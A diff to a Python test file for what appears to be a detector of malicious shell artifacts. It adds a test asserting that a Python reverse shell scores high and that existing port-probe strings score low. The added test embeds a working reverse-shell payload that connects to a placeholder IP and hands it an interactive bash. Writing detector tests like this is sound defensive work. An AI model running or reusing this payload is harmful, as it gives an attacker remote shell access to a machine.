@@ -46,3 +46,13 @@ def test_port_probes_are_not_shells() -> None:
     assert score(probe) < 100
     ps_probe = "$c = New-Object System.Net.Sockets.TcpClient; $c.Connect('db01', 1433); $c.Close()"
     assert score(ps_probe, ArtifactType.POWERSHELL) < 100
+
+
+def test_a_python_reverse_shell_written_as_a_script() -> None:
+    text = (
+        "python3 - <<'PY'\nimport socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
+        's.connect(("198.51.100.8",443))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1)\n'
+        'subprocess.call(["/bin/bash","-i"])\nPY\n'
+    )
+    assert "heur.reverse_shells.interpreter_one_liner" in ids(text)
+    assert score(text) >= 300
